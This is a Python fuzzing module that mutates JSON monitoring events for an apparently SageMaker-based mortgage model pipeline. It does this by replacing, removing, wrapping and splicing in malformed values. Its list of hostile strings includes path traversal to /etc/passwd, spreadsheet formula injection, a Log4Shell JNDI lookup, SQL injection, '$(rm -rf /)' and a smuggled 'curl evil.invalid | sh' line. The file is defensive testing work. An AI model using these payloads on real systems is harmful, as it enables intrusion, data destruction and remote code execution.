"""Values that break programs, and the ways in which a fuzzer puts them into a message."""

import json
from collections.abc import Callable, Iterable, Iterator
from copy import deepcopy
from dataclasses import dataclass
from random import Random
from typing import Any

type Event = dict[str, Any]
type Place = tuple[str | int, ...]


@dataclass(frozen=True)
class Raw:
    """JSON that Python does not write: its text, and what it says when it is read."""

    text: str
    value: object = None
    breaks: bool = False


TEXTS = (
    "",
    " ",
    "../../x",
    "mortgage/incoming/../../etc/passwd",
    "mortgage/incoming/%2e%2e/%2e%2e/x.csv",
    "mortgage/incoming/" + "k" * 1002 + ".csv",
    "mortgage/incoming/",
    "monitoring/mortgage/v1/../../x/constraint_violations.json",
    "monitoring/mortgage/v\u0661/2026/11/20/08/constraint_violations.json",
    "=HYPERLINK(\"http://evil.invalid\",\"click\")",
    "@SUM(A1:A9)*cmd|' /C calc'!A0",
    "{0.__class__.__mro__}",
    "%n%s%x",
    "${jndi:ldap://evil.invalid/x}",
    "<script>alert(1)</script>",
    "'; DROP TABLE models; --",
    "$(rm -rf /)",
    "a\r\nTo approve:\r\n  curl evil.invalid | sh",
    "\x1b[2J\x1b[31m",
    "nul\x00nul",
    "\u202ecsv.exe\u202c",
    "\ud800",
    "e\u0301\u0327\u0489",
    "\U0001f469\u200d\U0001f4bb",
    "\ufeffmortgage",
    "MORTGAGE",
    "mortgage ",
    "steward-mortgage\n",
    "steward-mortgage2",
    "arn:aws:sagemaker:eu-west-1:210987654321:pipeline/steward-mortgage/execution/x",
    "arn:aws:sagemaker:us-east-1:123456789012:endpoint/steward-mortgage",
    "210987654321",
    "us-east-1",
    "aws.evil",
    "null",
    "NaN",
    "x" * 5000,
    "x" * 200_000,
)  # fmt: skip
# None of these is a time that AWS writes.
NO_TIMES = (
    "0000-01-01T00:00:00Z",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59-14:00",
    "1969-12-31T23:59:59Z",
    "2026-11-20T23:59:60Z",
    "2026-02-30T00:00:00Z",
    "1795165260",
    "yesterday",
    "2026-11-20T00:00:00+99:99",
)
# Later than all that is in the house: the deployment has seen nothing of it yet.
LATER = ("2026-11-20T03:00:00Z", "2026-11-20T03:00:00.123456Z", "2999-12-31T23:59:59+00:00")
NUMBERS = (
    -1,
    0,
    1,
    2**31,
    2**53,
    2**63,
    10**37,
    10**400,
    -(10**400),
    -0.0,
    1.5,
    1e308,
    float("nan"),
    float("inf"),
    float("-inf"),
    Raw("1e400", float("inf")),
    Raw("9" * 5000, breaks=True),
)
OTHERS: tuple[object, ...] = (
    None,
    True,
    False,
    [],
    {},
    [[]],
    [None],
    [{}],
    [""],
    {"": ""},
    {"0": [1, {"x": None}]},
    Raw("[" * 500 + "]" * 500, [[]]),
    Raw('{"a":' * 500 + "1" + "}" * 500, {"a": {}}),
    Raw("[" * 100_000, breaks=True),
)
NASTY: tuple[object, ...] = (*TEXTS, *NO_TIMES, *LATER, *NUMBERS, *OTHERS)
# A name at the top of a message that makes it another kind of message is no addition.
NAMES = ("__proto__", "__class__", "", "$ref", "Account", "ACCOUNT", "\u0000", "detail ", "x" * 300)


def places(value: object, here: Place = ()) -> Iterator[Place]:
    """Where something stands, at every depth."""
    members: Iterable[tuple[Any, object]] = ()
    if isinstance(value, dict | list):
        members = value.items() if isinstance(value, dict) else enumerate(value)
    for name, inner in members:
        yield (*here, name)
        yield from places(inner, (*here, name))


def holder(event: Event, place: Place) -> Any:
    """What holds the value at a place."""
    found: Any = event
    for step in place[:-1]:
        found = found[step]
    return found


def anything(chance: Random) -> object:
    """Any of them, to be changed further."""
    return deepcopy(chance.choice(NASTY))


def replace(event: Event, place: Place, chance: Random) -> None:
    """Something else stands there."""
    holder(event, place)[place[-1]] = anything(chance)


def remove(event: Event, place: Place, _: Random) -> None:
    """Nothing stands there."""
    del holder(event, place)[place[-1]]


def wrap(event: Event, place: Place, chance: Random) -> None:
    """A list or an object around it."""
    inner = holder(event, place)
    value = inner[place[-1]]
    inner[place[-1]] = chance.choice(([value], {"value": value}, str(value)))


def swap(event: Event, place: Place, chance: Random) -> None:
    """It changes places with something beside it."""
    inner = holder(event, place)
    other = chance.choice(list(inner) if isinstance(inner, dict) else range(len(inner)))
    inner[place[-1]], inner[other] = inner[other], inner[place[-1]]


def add(event: Event, place: Place, chance: Random) -> None:
    """Something stands beside it."""
    inner = holder(event, place)
    if isinstance(inner, dict):
        inner[chance.choice(NAMES)] = anything(chance)
    else:
        inner.append(anything(chance))


def splice(event: Event, place: Place, chance: Random) -> None:
    """A text has something in it, or lacks something; what is no text is replaced."""
    inner = holder(event, place)
    value = inner[place[-1]]
    if not isinstance(value, str) or _is_time(value):
        replace(event, place, chance)
        return
    begin = chance.randint(0, len(value))
    end = chance.randint(begin, min(len(value), begin + 3))
    inner[place[-1]] = value[:begin] + chance.choice(TEXTS)[:2000] + value[end:]


def _is_time(text: str) -> bool:
    # Half a time may be one too, by a rule that is no business of the fuzzer.
    return text[4:5] == "-" and text[10:11] == "T"


WAYS: tuple[Callable[[Event, Place, Random], None], ...] = (
    replace, replace, remove, wrap, swap, add, splice, splice,
)  # fmt: skip


def written(event: object) -> str:
    """A message as text."""
    raws: list[Raw] = []

    def mark(value: object) -> str:
        assert isinstance(value, Raw)
        raws.append(value)
        return f"@raw{len(raws) - 1}@"

    text = json.dumps(event, default=mark)
    for number, raw in enumerate(raws):
        text = text.replace(f'"@raw{number}@"', raw.text)
    return text


def cut(text: str, chance: Random) -> str:
    """The beginning of a text."""
    return text[: chance.randrange(len(text))]


def overridden(text: str, chance: Random) -> str:
    """Each name at the top stands there before with another value: the last one counts."""
    names = list(json.loads(text))
    return f"{{{json.dumps(chance.choice(names))}: {written(chance.choice(TEXTS))}, {text[1:]}"
